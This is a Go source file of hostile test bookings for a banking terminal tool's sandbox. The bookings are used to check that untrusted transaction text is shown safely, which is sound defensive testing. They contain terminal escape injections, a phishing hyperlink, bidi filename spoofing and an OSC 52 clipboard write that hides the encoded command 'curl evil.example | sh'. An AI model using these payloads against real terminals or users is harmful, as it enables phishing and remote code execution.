package sandbox

import "strings"

// hostileText is the name and purpose of one hostile booking.
type hostileText struct {
	name, purpose string
	card          bool // arrives as a card booking (no IBAN), else as a SEPA transfer
}

// hostileTexts are the bookings --hostile seeds among the newest of each main
// account: the kinds of text a card network or a foreign bank can deliver,
// which konto must draw without letting them drive the terminal.
func hostileTexts() []hostileText {
	long := "Sammelüberweisung " + strings.Repeat("Rechnungen 2026-001 bis 2026-099, vielen Dank! ", 7)
	long = string([]rune(long)[:300])
	return []hostileText{
		{ // CSI: colours, clear screen, cursor moves
			name:    "\x1b[31;1mRED ALERT\x1b[0m Refund Service",
			purpose: "\x1b[2J\x1b[H\x1b[5mYour screen was cleared\x1b[0m \x1b[10A\x1b[999Cmoved",
		},
		{ // OSC: window title and OSC 52 clipboard write, BEL- and ST-terminated
			name:    "\x1b]0;konto: you have been pwned\x07Title Setter GmbH",
			purpose: "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied to your clipboard \x1b]2;second title\x1b\\",
			card:    true,
		},
		{ // DCS and an OSC 8 hyperlink
			name:    "\x1bP+q544e\x1b\\DCS Holdings Ltd",
			purpose: "\x1b]8;;https://phish.example/login\x1b\\Click to confirm your TAN\x1b]8;;\x1b\\ \x1bPq#0;2;0;0;0#0~~\x1b\\",
		},
		{ // C0 controls: NUL, BEL, backspaces, carriage return, VT, FF, DEL
			name:    "NUL\x00BEL\x07 Backspace\x08\x08\x08\x08\x08Ltd",
			purpose: "Refund 1.000,00 EUR\rRefund 9.999,99 EUR\x0b\x0c\x7f\t tab",
			card:    true,
		},
		{ // C1 controls, 8-bit CSI (U+009B) and 8-bit OSC
			name:    "\u009b31mEight-bit CSI\u009b0m Trading",
			purpose: "\u0085next line \u009d0;c1 title\u009c \u0090dcs\u009c \u0084index \u008dreverse",
		},
		{ // bidi overrides, isolates, zero-width and combining characters
			name:    "Invoice \u202efdp.exe\u202c Services",
			purpose: "\u2066isolated\u2069 zero\u200bwidth\u200d\ufeffjoiner Z\u0351\u0352\u0353\u0354a\u0300\u0301\u0302l\u0335g\u0336o c\u0327\u0301ombining \u2028line sep",
			card:    true,
		},
		{ // emoji (ZWJ sequences, flags, skin tones) and wide CJK
			name:    "🏦 Bank of Émoji 💸👩‍💻🇩🇪👍🏽",
			purpose: "請求書 2026-041 東京都渋谷区 ｶﾀｶﾅ 한국어 송금 全角テキスト ＡＢＣ１２３",
		},
		{ // 300 characters of ordinary text
			name:    "Sehr Lange Firmierung Gesellschaft für Überweisungen mit beschränkter Haftung & Co. KG",
			purpose: long,
		},
	}
}
